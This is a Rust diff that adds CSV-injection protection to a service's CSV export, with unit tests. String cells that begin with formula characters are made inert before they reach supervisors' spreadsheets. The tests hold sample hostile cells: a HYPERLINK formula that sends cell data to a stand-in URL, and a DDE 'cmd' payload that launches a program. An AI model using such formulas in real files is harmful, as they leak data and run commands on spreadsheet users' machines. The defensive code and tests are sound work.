@@ -93,11 +93,25 @@ fn wants_csv(req: &HttpRequest, format: Option<Format>) -> bool {
                 .is_some_and(|v| v.contains("text/csv")))
 }
 
+/// One CSV cell. Text is made inert for spreadsheets ([`csv_text`]); numbers are written
+/// as numbers.
 fn cell(v: &Value) -> String {
     match v {
         Value::Null => String::new(),
-        Value::String(s) => s.clone(),
+        Value::String(s) => csv_text(s),
         other => other.to_string(),
+    }
+}
+
+/// Text for a CSV cell that a spreadsheet will not run as a formula (OWASP's CSV-injection
+/// rule): a cell beginning with `=`, `+`, `-`, `@`, a tab or a carriage return gets a
+/// leading `'`. Names come from HR spreadsheets through the CSV import, so an OPD named
+/// `=HYPERLINK(…)` must reach a supervisor's spreadsheet as text.
+pub fn csv_text(s: &str) -> String {
+    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{s}")
+    } else {
+        s.to_string()
     }
 }
 
@@ -375,4 +389,27 @@ pub async fn officials(
     })
     .await?;
     rows_answer(&state, &req, q.format, &tag, "officials", r, items)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    #[test]
+    fn formulas_become_text() {
+        assert_eq!(
+            csv_text("=HYPERLINK(\"http://x\"&A2,\"Klik\")"),
+            "'=HYPERLINK(\"http://x\"&A2,\"Klik\")"
+        );
+        assert_eq!(csv_text("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
+        assert_eq!(csv_text("-1+1"), "'-1+1");
+        assert_eq!(csv_text("@SUM(A1)"), "'@SUM(A1)");
+        assert_eq!(csv_text("\tx"), "'\tx");
+        assert_eq!(csv_text("\rx"), "'\rx");
+        assert_eq!(csv_text("Dinas Kesehatan"), "Dinas Kesehatan");
+        assert_eq!(csv_text(""), "");
+        assert_eq!(cell(&json!(-3)), "-3");
+        assert_eq!(cell(&json!("-3")), "'-3");
+    }
 }
